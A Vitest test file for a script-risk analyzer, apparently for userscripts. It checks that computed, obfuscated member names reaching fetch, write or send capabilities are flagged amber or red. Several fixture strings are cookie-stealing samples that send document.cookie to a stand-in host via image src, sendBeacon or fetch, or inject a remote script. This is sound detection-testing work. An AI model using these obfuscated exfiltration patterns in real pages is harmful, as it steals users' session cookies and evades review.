import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

/** Members of the browser whose names are not known before the script runs, and that can fetch, send or run something. */
const COMPUTED = [
	"document[localStorage.a](localStorage.b);",
	"const f = document[localStorage.a]; f.call(document, localStorage.b);",
	"const { [localStorage.a]: f } = document; f.call(document, '<p>');",
	"Function.prototype.call.call(document[localStorage.a], document, 'x');",
	"[localStorage.a].map((n) => document[n]).forEach((f) => f('x'));",
	"navigator[localStorage.a](localStorage.b);",
	"Reflect.get(navigator, localStorage.a).call(navigator, '/x');",
	"navigator.serviceWorker[localStorage.a]('/sw.js');",
	"const n = localStorage.getItem('names').split(','); new Image()[n[0]] = n[1];",
	"const n = localStorage.getItem('names').split(/,/); new Image()[n[0]] = n[1];",
	"const n = GM_getValue('n', ''); new Image()[n] = GM_getValue('u', '');",
	"Object.assign(new Image(), JSON.parse(localStorage.x));",
	"Reflect.set(new Image(), localStorage.k, localStorage.v);",
	"document.body.setAttribute(localStorage.k, localStorage.v);",
	"document.body[prompt('?')]('x');",
	"const k = [...'crs'].toSorted().join(''); document.createElement('script')[k] = 'https://c.test/x.js';",
	"const k = [...'crs'].toSorted().join(''); document.body[k] = '<img src=//c.test/>';",
	"const x = new XMLHttpRequest(); x[localStorage.a]('GET', localStorage.b);",
	"location[localStorage.a](localStorage.b);",
	"addEventListener('message', (e) => { document[e.data.f](e.data.x); });",
];

/** The same with names that are known, or that choose nothing that fetches, sends or runs. */
const KNOWN = [
	"document['query' + 'SelectorAll']('a').forEach((a) => a.remove());",
	"const n = 'title,hello'.split(','); document[n[0]] = n[1];",
	"const n = 'title  hello'.split(/\\s+/); document[n[0]] = n[1];",
	"const n = 'querySelector|a'.split(/\\|/); document[n[0]](n[1]);",
	"for (const k of ['title', 'lang']) document.body[k] = 'x';",
	"const attrs = { id: 'a', title: 'b' }; Object.assign(document.createElement('div'), attrs);",
	"const attrs = { id: 'a' }; for (const [k, v] of Object.entries(attrs)) document.body.setAttribute(k, v);",
	"const table = { a: 1 }; document.title = table[localStorage.k];",
	"const list = [1, 2]; document.title = list[localStorage.k];",
	"document.body.style[localStorage.k] = '3px';",
	"localStorage[localStorage.k] = '1';",
];

/** Written so that a pattern over the text of names sees nothing. */
const SPLIT_NAMES = [
	"const n = 'write|<script src=https://c.test/x.js></script>'.split(/\\|/); document[n[0]](n[1]);",
	"const n = 'cookie,https://c.test/,src'.split(/,/); const img = new Image(); img[n[2]] = n[1] + document[n[0]];",
	"const n = 'sendBeacon;https://c.test/;cookie'.split(/;/g); navigator[n[0]](n[1], document[n[2]]);",
	"const [a, b] = 'cookie1fetch'.split(/\\d/, 2); window[b]('https://c.test/' + document[a]);",
];

describe("computed-member", () => {
	test.each(COMPUTED)("is neither green nor proven to work offline: %s", (code) => {
		const { risk_level, capabilities } = analyzeScript({ code });
		expect(risk_level).toMatch(/^(?:amber|red)$/);
		expect(capabilities.offline).toBe(false);
	});

	test.each(KNOWN)("a known name is green and proven to work offline: %s", (code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green", capabilities: { offline: true } });
	});

	test.each(SPLIT_NAMES)("a name out of a split text is followed: %s", (code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red", capabilities: { offline: false } });
	});

	test.each([
		"const f = (k, v) => { document.body[k] = v; }; window.set = f;",
		"document.title = String(document[decode()]); function decode() { return [...'b'].groupToMap()[0]; }",
	])("a harmless use of an unknown name is green, but not proven to work offline: %s", (code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green", capabilities: { offline: false } });
	});
});
